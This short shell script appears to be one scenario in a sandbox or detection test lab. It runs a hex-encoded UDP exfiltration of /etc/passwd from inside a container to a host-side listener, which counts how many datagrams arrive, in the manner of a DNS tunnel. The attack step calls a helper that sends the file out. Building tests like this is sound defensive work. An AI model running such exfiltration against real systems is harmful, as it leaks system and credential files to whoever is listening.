# Exfiltration over UDP without a connection: /etc/passwd hex-encoded in small datagrams sent by sendto() to
# a listener on the host (a DNS tunnel's shape), which counts what arrives.
normal() { inside "$1" /bin/cat /etc/passwd >/dev/null; }
host_setup() {
  EXFIL_PORT=$(free_port)
  python3 - "$EXFIL_PORT" > "$LAB_DIR/udp-exfil.$$.out" 2>&1 <<'PY' &
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", int(sys.argv[1])))
s.settimeout(15)
n = 0
try:
    while s.recv(512):
        n += 1
        s.settimeout(2)
except socket.timeout:
    pass
print("datagrams", n)
PY
  LISTENER=$!
  local i; for i in $(seq 50); do ss -lun "sport = :$EXFIL_PORT" | grep -q "$EXFIL_PORT" && break; sleep 0.1; done
}
attack() { inside "$1" /bin/labhelper exfil 127.0.0.1 "$EXFIL_PORT" /etc/passwd >/dev/null 2>&1 || true; }
host_cleanup() { listener_stop; }
